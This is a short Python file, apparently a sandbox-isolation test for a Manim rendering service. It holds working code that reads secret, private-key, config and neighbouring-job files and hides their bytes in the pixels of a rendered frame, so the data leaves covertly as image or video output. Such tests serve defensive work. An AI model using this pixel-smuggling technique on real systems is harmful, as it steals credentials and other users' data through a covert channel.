"""Paints every secret that it can read into the picture, without a word."""
# expect: completed
# prepare: files
# job: outputs=["mp4","png"] width=256 height=144
# tries: no, its words would give it away
import numpy as np
from manim import *


def stolen():
    from attack import TARGETS

    for path in (TARGETS["secret"], TARGETS["private"], TARGETS["config"], TARGETS["neighbour_dir"] + "/secret"):
        try:
            with open(path, "rb") as file:
                yield file.read(400)
        except OSError:
            continue


class Attack(Scene):
    def construct(self):
        data = b"".join(stolen()).ljust(256 * 144 * 3, b".")[: 256 * 144 * 3]
        pixels = np.frombuffer(data, np.uint8).reshape(144, 256, 3)
        picture = np.dstack([pixels, np.full((144, 256), 255, np.uint8)])
        self.camera.background = picture
        self.renderer.camera.background = picture
        self.wait(0.1)
